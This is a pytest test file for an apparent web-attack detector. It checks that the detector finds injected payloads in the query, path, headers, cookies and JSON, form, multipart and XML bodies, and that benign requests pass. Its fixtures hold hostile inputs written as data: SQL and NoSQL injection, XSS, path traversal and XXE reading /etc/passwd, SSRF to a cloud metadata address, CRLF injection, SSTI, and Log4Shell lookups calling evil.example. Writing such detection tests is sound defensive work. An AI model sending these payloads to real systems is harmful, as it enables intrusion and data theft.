"""``inspect_http``: values are found where attackers put them, and reported with their place."""

from __future__ import annotations

import json

import pytest

from wardgate.core import HttpRequest
from wardgate.detect.webattack import WebAttackDetector, WebAttackHit
from wardgate.detect.webattack.http import decode_layers, json_path

DETECTOR = WebAttackDetector()


def places(hits: list[WebAttackHit]) -> set[tuple[str, str, str]]:
    return {
        (h.location, h.name, h.finding.rule_id.split(".")[1])
        for h in hits
        if h.finding.score >= 0.5
    }


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("id=1%27%20OR%20%271%27%3D%271", ("query", "id", "sqli")),
        ("id=1+union+select+1,2--", ("query", "id", "sqli")),
        ("q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", ("query", "q", "xss")),
        ("a=ok&a=..%2f..%2fetc%2fpasswd", ("query", "a", "path_traversal")),
        ("host=127.0.0.1%0aid", ("query", "host", "cmdi")),
        ("url=http%3A%2F%2F169.254.169.254%2F", ("query", "url", "ssrf")),
        ("next=foo%0d%0aSet-Cookie:%20a=b", ("query", "next", "crlf")),
        ("lang=en%0D%0ALocation:%20//evil.example", ("query", "lang", "crlf")),
        ("user[$ne]=1", ("query", "user[$ne]", "nosqli")),
        ("f=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", ("query", "f", "log4shell")),
    ],
)
def test_query_values(query: str, expected: tuple[str, str, str]) -> None:
    assert expected in places(DETECTOR.inspect_http("GET", "/search", query))


def test_repeated_keys_are_each_checked() -> None:
    hits = DETECTOR.inspect_http("GET", "/", "id=1&id=2&id=3'+or+'1'='1")
    assert ("query", "id", "sqli") in places(hits)


def test_decoding_layer_is_reported() -> None:
    (hit,) = DETECTOR.inspect_http("GET", "/", "q=%253Cscript%253Ealert(1)%253C%252Fscript%253E")
    assert hit.layer == 2
    assert hit.finding.evidence.startswith("<script>")


def test_path_traversal_in_path() -> None:
    hits = DETECTOR.inspect_http("GET", "/static/..%2f..%2fetc%2fpasswd")
    assert ("path", "", "path_traversal") in places(hits)
    assert len([h for h in hits if h.location == "path"]) == 1


def test_sqli_in_path_segment() -> None:
    hits = DETECTOR.inspect_http("GET", "/users/1%20union%20select%20password%20from%20users--")
    assert ("path", "segment[2]", "sqli") in places(hits)


def test_headers_and_cookies() -> None:
    headers = [
        ("User-Agent", "${jndi:ldap://evil.example/a}"),
        ("Referer", "https://example.com/?q=<script>alert(1)</script>"),
        ("X-Forwarded-For", "1' or '1'='1"),
        ("Cookie", "theme=dark; track=1%27%20or%201%3D1--"),
        ("X-Custom", "{{7*7}}"),
        ("Authorization", "Bearer ' or 1=1--"),
    ]
    found = places(DETECTOR.inspect_http("GET", "/", "", headers=headers))
    assert ("header", "user-agent", "log4shell") in found
    assert ("header", "referer", "xss") in found
    assert ("header", "x-forwarded-for", "sqli") in found
    assert ("cookie", "track", "sqli") in found
    assert ("header", "x-custom", "ssti") in found
    assert not any(loc == "header" and name == "authorization" for loc, name, _ in found)


def test_internal_url_not_flagged_in_headers() -> None:
    hits = DETECTOR.inspect_http("GET", "/", "", headers={"Referer": "http://localhost:3000/app"})
    assert hits == []


def test_sensitive_names_are_redacted() -> None:
    headers = [("X-Api-Key", "../../etc/passwd"), ("Cookie", "sessionid=..%2f..%2fetc%2fpasswd")]
    hits = DETECTOR.inspect_http("GET", "/", "", headers=headers)
    assert {h.location for h in hits} == {"header", "cookie"}
    assert all("passwd" not in h.finding.evidence for h in hits)


def test_json_body_paths() -> None:
    body = json.dumps(
        {
            "user": {"name": "x' OR '1'='1", "password": {"$ne": None}},
            "items": [{"url": "http://169.254.169.254/latest/meta-data/"}],
            "weird key": "<script>alert(1)</script>",
            "messages": [{"role": "user", "content": "How do SQL joins work?\nSELECT a FROM t"}],
        }
    ).encode()
    found = places(
        DETECTOR.inspect_http("POST", "/api", "", body=body, content_type="application/json")
    )
    assert ("json", "$.user.name", "sqli") in found
    assert ("json", '$.user.password["$ne"]', "nosqli") in found
    assert ("json", "$.items[0].url", "ssrf") in found
    assert ("json", '$["weird key"]', "xss") in found
    assert not any(name.startswith("$.messages") for _, name, _ in found)


def test_json_schema_keys_are_not_operators() -> None:
    body = b'{"$schema": "https://json-schema.org/draft/2020-12/schema", "$ref": "#/a"}'
    assert DETECTOR.inspect_http("POST", "/", "", body=body, content_type="application/json") == []


def test_deep_json_is_bounded() -> None:
    body = b"[" * 100_000 + b"]" * 100_000
    DETECTOR.inspect_http("POST", "/", "", body=body, content_type="application/json")


def test_invalid_json_falls_back_to_text() -> None:
    body = b'{"a": "${jndi:ldap://x/a}"'
    hits = DETECTOR.inspect_http("POST", "/", "", body=body, content_type="application/json")
    assert ("body", "", "log4shell") in places(hits)


def test_form_body() -> None:
    body = b"user=admin%27--&comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"
    found = places(
        DETECTOR.inspect_http(
            "POST", "/login", "", body=body, content_type="application/x-www-form-urlencoded"
        )
    )
    assert ("form", "user", "sqli") in found
    assert ("form", "comment", "xss") in found


def test_multipart_filename_and_field() -> None:
    body = (
        b'--B\r\nContent-Disposition: form-data; name="file"; filename="../../etc/passwd"\r\n'
        b"Content-Type: text/plain\r\n\r\nhello\r\n"
        b'--B\r\nContent-Disposition: form-data; name="note"\r\n\r\n{{7*7}}\r\n--B--\r\n'
    )
    found = places(
        DETECTOR.inspect_http(
            "POST", "/up", "", body=body, content_type="multipart/form-data; boundary=B"
        )
    )
    assert ("multipart", "file (filename)", "path_traversal") in found
    assert ("multipart", "note", "ssti") in found


def test_xml_body_xxe() -> None:
    body = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    found = places(
        DETECTOR.inspect_http("POST", "/", "", body=body, content_type="application/xml")
    )
    assert ("body", "", "xxe") in found


@pytest.mark.parametrize(
    ("query", "body"),
    [
        ("name=O%27Brien&plan=select+a+plan&n=1+OR+2+items", b""),
        ("next=https%3A%2F%2Fexample.com%2Fdocs%2Fguide.md&page=2", b""),
        ("q=rock+%27n%27+roll&sort=-created_at", b""),
        (
            "",
            json.dumps(
                {"code": "def f(x):\n    return x * 2\n", "md": "**bold** [a](https://x.io)"}
            ).encode(),
        ),
        (
            "",
            json.dumps(
                {"prompt": "Explain what ' OR 1=1 does in SQL, in general terms, to a beginner."}
            ).encode(),
        ),
        (
            "",
            json.dumps(
                {"path": "docs/guide.md", "ua": "curl/8.1", "count": 3, "ok": True}
            ).encode(),
        ),
    ],
)
def test_benign_request(query: str, body: bytes) -> None:
    headers = {
        "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
        "Cookie": "a=1; b=two",
    }
    hits = DETECTOR.inspect_http(
        "POST",
        "/api/v1/items/42",
        query,
        headers=headers,
        body=body,
        content_type="application/json",
    )
    assert [h for h in hits if h.finding.score >= 0.5] == []


def test_inspect_request() -> None:
    request = HttpRequest(
        "POST",
        "https://api.example.com/v1/fetch?url=http://0xA9FEA9FE/",
        headers=(("Content-Type", "application/json"),),
        body=b'{"q": "1; DROP TABLE users"}',
    )
    found = places(DETECTOR.inspect_request(request))
    assert ("query", "url", "ssrf") in found
    assert ("json", "$.q", "sqli") in found


def test_decode_layers() -> None:
    assert decode_layers("a%252e", 3, plus=True) == ["a%252e", "a%2e", "a."]
    assert decode_layers("a+b", 3, plus=True) == ["a+b", "a b"]
    assert decode_layers("plain", 3, plus=False) == ["plain"]


@pytest.mark.parametrize(
    ("parent", "key", "expected"),
    [
        ("$", "user", "$.user"),
        ("$.a", 0, "$.a[0]"),
        ("$", "$ne", '$["$ne"]'),
        ("$", "a b", '$["a b"]'),
    ],
)
def test_json_path(parent: str, key: str | int, expected: str) -> None:
    assert json_path(parent, key) == expected
